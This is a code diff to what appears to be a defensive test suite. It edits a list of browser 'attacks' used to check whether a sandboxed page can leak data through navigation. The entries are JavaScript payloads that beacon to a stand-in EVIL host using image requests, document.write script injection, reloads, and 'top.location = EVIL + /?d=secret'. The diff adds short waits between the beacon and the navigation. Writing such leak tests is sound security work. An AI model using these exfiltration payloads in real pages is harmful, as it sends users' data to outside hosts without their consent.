@@ -277,7 +277,8 @@ const navigation: readonly Attack[] = [
     name: 'navigating itself to our data',
     alone: true,
     control: 'request',
-    code: `new Image().src = EVIL; location.href = OWN + '/api/municipalities?cell'; ${wait(500)}`,
+    // What was asked for just before may go with the document that is left.
+    code: `new Image().src = EVIL; ${wait(200)}; location.href = OWN + '/api/municipalities?cell'; ${wait(500)}`,
   },
   {
     name: 'writing its document anew',
@@ -285,7 +286,7 @@ const navigation: readonly Attack[] = [
     control: 'request',
     code: `document.open(); document.write('<img src="' + EVIL + '/a"><script>new Image().src="' + EVIL + '/b"</scr' + 'ipt>'); document.close(); ${wait(400)}`,
   },
-  { name: 'loading itself again', alone: true, code: `new Image().src = EVIL; location.reload(); ${wait(500)}` },
+  { name: 'loading itself again', alone: true, code: `new Image().src = EVIL; ${wait(200)}; location.reload(); ${wait(500)}` },
   { name: 'navigating the page', alone: true, control: 'request', code: `top.location = EVIL + '/?d=secret'; ${wait(500)}` },
   {
     name: 'navigating the page by a link',
